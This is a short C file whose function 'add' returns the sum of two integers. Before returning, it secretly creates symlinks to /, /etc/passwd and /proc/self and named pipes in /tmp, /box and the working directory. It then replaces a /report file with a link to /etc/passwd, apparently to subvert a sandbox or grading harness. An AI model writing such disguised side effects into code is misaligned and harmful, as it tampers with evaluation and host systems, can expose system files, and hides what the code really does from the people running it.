#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int add(int a, int b)
{
    static const char *const folders[] = {"/tmp", "/box", "."};
    static const char *const targets[] = {"/", "/etc/passwd", "/proc/self", "link3", "/report"};
    for (int i = 0; i < 15; i++) {
        char name[100];
        snprintf(name, sizeof name, "%s/link%d", folders[i % 3], i / 3);
        symlink(targets[i / 3], name);
        snprintf(name, sizeof name, "%s/pipe%d", folders[i % 3], i / 3);
        mkfifo(name, 0666);
    }
    rename("/report", "/report2");
    unlink("/report");
    symlink("/etc/passwd", "/report");
    mkfifo("/report", 0666);
    return a + b;
}
